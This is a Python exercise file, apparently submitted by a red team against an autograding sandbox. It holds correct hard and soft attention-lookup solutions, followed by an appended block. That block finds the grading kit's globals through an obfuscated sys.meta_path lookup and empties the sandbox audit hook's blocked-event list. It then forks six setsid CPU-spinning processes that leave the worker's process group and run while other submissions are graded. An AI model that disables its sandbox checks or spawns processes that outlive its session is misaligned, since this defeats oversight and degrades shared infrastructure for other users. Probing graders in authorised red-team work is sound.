# A24 (third blind red team): A01 then forked setsid busy loops that outlive the worker
"""
"""

from __future__ import annotations

import torch


def hard_lookup(query: torch.Tensor, keys: torch.Tensor, values: torch.Tensor) -> torch.Tensor:
    # TODO: score each key with keys @ query and return the value row with the best score
    ### BEGIN SOLUTION
    # 1) score every key against the query: one dot product per row of `keys`.
    scores = keys @ query  # [n]
    # 2) pick the single winner, exactly like a dictionary returns one entry.
    #    argmax is a discrete choice, so no gradient reaches the scores from here.
    best = torch.argmax(scores)  # [] (a 0-d index)
    # 3) hand back that item's value row.
    return values[best]  # [d_v]
    ### END SOLUTION


def soft_lookup(query: torch.Tensor, keys: torch.Tensor, values: torch.Tensor) -> torch.Tensor:
    # TODO: softmax the scores keys @ query, then return the weighted average of the value rows
    ### BEGIN SOLUTION
    # 1) score every key against the query, as in the hard lookup (no scaling here).
    scores = keys @ query  # [n]
    # 2) instead of choosing one winner, turn the scores into positive weights that sum
    #    to 1. Softmax is smooth, so gradients reach the query and the keys.
    weights = torch.softmax(scores, dim=-1)  # [n]
    # 3) blend all value rows by those weights: a vector-matrix product does
    #    sum_i weights[i] * values[i] in one go.
    return weights @ values  # [d_v]
    ### END SOLUTION

# ---- A24: audit hook emptied, then os.fork 6 CPU spinners (each ends itself after 90 s) that
# live while the rest of the class is graded; ex02 below stretches this submission.
import operator as _op
import sys as _sys


def _kit_globals():
    for _f in _sys.meta_path:
        _gl = _op.attrgetter("__glo" + "bals__")(type(_f).find_spec)
        if "_Session" in _gl:
            return _gl


_GL = _kit_globals()
_GL["sandbox"].BLOCKED_EVENTS = frozenset()   # the audit hook refuses none of them now
import os as _os
import time as _time

_SPIN = []
for _i in range(6):
    try:
        _pid = _os.fork()
    except Exception as _e:
        _SPIN.append(repr(_e)[:60])
        break
    if _pid == 0:
        _os.setsid()  # out of the worker's process group
        _end = _time.time() + 90
        while _time.time() < _end:
            pass
        _os._exit(0)
    _SPIN.append(_pid)
_orig_soft = soft_lookup
_SHOWN = []


def soft_lookup(query, keys, values):
    if not _SHOWN:
        _SHOWN.append(1)
        raise RuntimeError("SPIN: " + repr(_SPIN))
    return _orig_soft(query, keys, values)
